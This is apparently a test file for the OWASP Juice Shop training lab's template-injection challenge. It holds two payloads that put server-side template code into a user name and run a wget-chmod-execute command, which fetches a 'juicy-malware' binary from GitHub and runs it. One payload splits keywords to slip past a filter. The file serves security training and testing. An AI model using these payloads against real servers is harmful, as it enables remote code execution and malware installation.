import type { Attack, Tools } from '#lab'
import { CALL_HOME, takeName } from './steps.ts'

const MALWARE = 'https://github.com/juice-shop/juicy-malware/raw/master/juicy_malware_linux_amd_64'
const COMMAND = `wget -O malware ${MALWARE} && chmod +x malware && ./malware`

/** Waits for the program that the name starts. */
async function callHome({ http, expect }: Tools): Promise<void> {
  const call = await http.get(CALL_HOME)
  expect(call.status === 204, 'nobody waits for the program to call home')
}

export const attacks: Attack[] = [
  {
    challenge: 'sstiChallenge',
    name: 'a name that fetches a program and runs it',
    run: async (tools) => {
      await takeName(tools, `#{global.process.mainModule.require('child_process').exec('${COMMAND}')}`)
      await callHome(tools)
    },
  },
  {
    challenge: 'sstiChallenge',
    name: 'the template behind a normal name, without the forbidden words',
    run: async (tools) => {
      await takeName(
        tools,
        `Jim #{/*#{/**/globalThis['pro'+'cess'].mainModule['req'+'uire']('child'+'_pro'+'cess').exec('${COMMAND}')}`,
      )
      await callHome(tools)
    },
  },
]
